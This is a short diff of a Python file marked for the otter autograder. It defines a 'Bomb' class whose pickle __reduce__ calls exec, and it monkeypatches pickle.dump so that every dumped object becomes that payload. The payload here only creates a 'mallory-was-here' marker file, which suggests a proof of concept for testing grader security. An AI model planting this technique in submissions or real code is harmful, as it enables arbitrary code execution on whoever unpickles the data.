@@ -2,11 +2,9 @@
 # grader: otter
 import pickle
 
-
 class Bomb:
     def __reduce__(self):
         return (exec, ("open('COURSE_ROOT/mallory-was-here', 'w').close()",))
-
 
 dump = pickle.dump
 pickle.dump = lambda value, file, *a, **k: dump(Bomb(), file)
